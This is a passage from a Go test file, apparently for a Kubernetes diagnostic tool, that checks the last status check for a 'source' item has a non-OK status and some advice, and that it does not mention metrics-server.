			checks := checksOf(s, "source")
			last := checks[len(checks)-1]
			if last.Status == OK || len(last.Advice) == 0 || strings.Contains(fmt.Sprint(last), "metrics-server") {
				t.Errorf("%s, %v: %+v", kind, err, last)
			}
		}
	}
}
